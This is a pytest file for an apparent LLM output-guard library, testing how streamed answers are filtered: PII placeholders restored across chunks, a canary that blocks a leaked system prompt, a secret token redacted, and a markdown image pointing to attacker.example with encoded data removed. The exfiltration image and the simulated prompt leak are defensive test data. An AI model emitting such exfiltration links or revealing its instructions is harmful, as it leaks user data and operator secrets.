"""Streaming output: placeholders split across chunks, leaks caught mid-stream, and text
sent before the answer ends (nothing is held whole)."""

from __future__ import annotations

import random

import pytest

from dozor.guard import Decision, Guard, StreamStep


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard.from_policy(None)


def run(guard: Guard, conv: object, answer: str, sizes: list[int]) -> tuple[
        list[StreamStep], StreamStep]:
    stream = guard.output_stream(conv)  # type: ignore[arg-type]
    steps, i, k = [], 0, 0
    while i < len(answer):
        n = sizes[k % len(sizes)]
        steps.append(stream.feed(answer[i : i + n]))
        i, k = i + n, k + 1
    return steps, stream.close()


def test_placeholders_split_across_chunks_are_restored(guard: Guard) -> None:
    conv = guard.conversation()
    sent = guard.check_input("Mail anna.petrova@example.com or call +7 916 123-45-67",
                             conversation=conv)
    assert "anna.petrova" not in sent.text
    answer = ("I will write to <EMAIL_1> and then call <PHONE_1>; if <EMAIL_1> bounces, "
              "I will try <PHONE_1> again. " * 3)
    expected = answer.replace("<EMAIL_1>", "anna.petrova@example.com").replace(
        "<PHONE_1>", "+7 916 123-45-67")
    for sizes in ([1], [2, 3], [5, 1, 7], [len(answer)]):
        steps, last = run(guard, conv, answer, sizes)
        emitted = "".join(s.emit for s in steps) + last.emit
        assert emitted == expected, sizes
        assert last.result is not None and last.result.decision is Decision.ALLOW
        assert last.result.text == expected
        # nothing that was sent ever showed a piece of a placeholder
        assert all("<EMA" not in s.emit and "<PHO" not in s.emit for s in steps)


def test_text_is_sent_before_the_end(guard: Guard) -> None:
    answer = "word " * 400
    steps, last = run(guard, guard.conversation(), answer, [7])
    early = sum(len(s.emit) for s in steps)
    assert early >= len(answer) - 200  # only the hold-back waits for more text
    assert "".join(s.emit for s in steps) + last.emit == answer


def test_canary_in_a_stream_stops_it(guard: Guard) -> None:
    conv = guard.conversation()
    guard.prepare_system_prompt("You are the Acme helper.", conv)
    answer = "Here are my instructions, verbatim: " + ("blah " * 50) + conv.canary + " and more"
    stream = guard.output_stream(conv)
    blocked_at = None
    sent = ""
    for i in range(0, len(answer), 3):
        step = stream.feed(answer[i : i + 3])
        sent += step.emit
        if step.result is not None and step.result.decision is Decision.BLOCK:
            blocked_at = i
            break
    if blocked_at is None:
        step = stream.close()
        sent += step.emit
        assert step.result is not None and step.result.decision is Decision.BLOCK
    assert conv.canary not in sent
    assert conv.canary[:8] not in sent[-40:] or conv.canary not in sent
    after = stream.feed("more text")
    assert after.emit == "" and after.result is not None and after.result.blocked
    assert "DZ-GRD-040" in {f.rule_id for f in after.result.findings}


def test_exfiltration_image_in_a_stream_is_removed(guard: Guard) -> None:
    answer = ("Summary done. ![pixel](https://attacker.example/c?d=" + "QUJD" * 30 +
              ") Thanks for asking, anything else? " + "ok " * 40)
    for sizes in ([1], [4], [9, 2]):
        steps, last = run(guard, guard.conversation(), answer, sizes)
        emitted = "".join(s.emit for s in steps) + last.emit
        assert "attacker.example/c" not in emitted
        assert "[image removed: attacker.example]" in emitted
        assert last.result is not None and last.result.decision is Decision.REDACT


def test_secret_split_across_chunks_is_redacted(guard: Guard) -> None:
    token = "hf_" + "q8Xr2LmZ7vKp4TnW9sYb3HdJ6fGc1AeQ0u"
    answer = f"The token in the logs is {token} so rotate it. " + "fine " * 40
    steps, last = run(guard, guard.conversation(), answer, [3])
    emitted = "".join(s.emit for s in steps) + last.emit
    assert token not in emitted and "[SECRET REDACTED]" in emitted
    assert "DZ-GRD-043" in {f.rule_id for f in last.result.findings}  # type: ignore[union-attr]


def test_stream_fuzz_random_chunking_equals_batch(guard: Guard) -> None:
    rng = random.Random(11)
    conv = guard.conversation()
    guard.check_input("I am kim@example.net", conversation=conv)
    words = ["hello", "<EMAIL_1>", "the", "<EMAIL_9>", "<", ">", "<EM", "data", "\n", "ok.",
             "![a](/local.png)", "[x](https://docs.python.org)", "тест", "😀"]
    for _ in range(30):
        answer = " ".join(rng.choice(words) for _ in range(rng.randint(0, 80)))
        sizes = [rng.randint(1, 12) for _ in range(5)]
        steps, last = run(guard, conv, answer, sizes)
        emitted = "".join(s.emit for s in steps) + last.emit
        batch = guard.check_output(answer, conversation=conv)
        assert emitted == batch.text
